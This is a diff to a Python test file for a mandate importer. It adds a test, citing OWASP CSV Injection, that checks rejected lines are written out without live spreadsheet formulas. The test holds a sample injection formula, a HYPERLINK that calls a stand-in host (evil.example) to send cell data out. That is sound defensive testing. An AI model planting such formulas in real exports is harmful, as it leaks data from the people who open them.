@@ -1,5 +1,6 @@
 """Existing relationships come in from a file: each once, journalled, none at another's cost."""
 
+import csv
 import json
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -61,6 +62,10 @@ class Importer:
 
     def load(self, *lines: str, dry_run: bool = False, source: str = "old") -> Counts:
         self.write(*lines)
+        return self.again(dry_run=dry_run, source=source)
+
+    def again(self, dry_run: bool = False, source: str = "old") -> Counts:
+        """Load what is in the file."""
         house = self.site.house
         said = Source(name=source, evidence="taken-over", by="an operator", officers=("o1", "o2"))
         work = MandateImport(house.database, house.keyring, house.policies, said, dry_run=dry_run)
@@ -116,6 +121,26 @@ def test_what_is_loaded_can_be_used_and_is_in_the_journal_of_both(importer: Impo
     site.sign_in()
     tokens = site.redeem("tax", site.act(held["old:r1"]["ref"])).json or {}
     assert claims_of(tokens["access_token"])["mandate"]["id"] == held["old:r1"]["ref"]
+
+
+def test_a_refused_line_is_no_formula_and_is_read_as_it_was_once_it_is_mended(
+    importer: Importer,
+) -> None:
+    """OWASP, CSV Injection: an operator opens the refused lines in a spreadsheet and saves them."""
+    formula = '=HYPERLINK("https://evil.example?"&A1)'
+    quoted = '"' + formula.replace('"', '""') + '"'
+    refused = line(reference=quoted, delegate="organisation,@Nobody")
+    importer.load(refused, line(reference="'-2"), line(reference="r3", delegate="person,+44"))
+    assert len(importer.mandates()) == 1
+    text = importer.rejects.read_text()
+    opened = list(csv.reader(text.splitlines()))
+    assert [cells for cells in opened for cell in cells if cell[:1] in {*"=+-@\t\r"} - {""}] == []
+    assert [cells[6] for cells in opened[1:]] == ["'@Nobody", "'+44"]
+    importer.path.write_text(text.replace("'@Nobody", "Owen and Co").replace("'+44", SIAN))
+    done = importer.again()
+    assert done.counts() == {"read": 2, "added": 1, "changed": 0, "unchanged": 0, "rejected": 1}
+    assert {row["import_key"] for row in importer.mandates()} == {"old:-2", f"old:{formula}"}
+    assert "r3" in importer.rejects.read_text(), "held already, by the first line"
 
 
 def test_a_run_after_a_kill_goes_on_and_stores_nothing_twice(
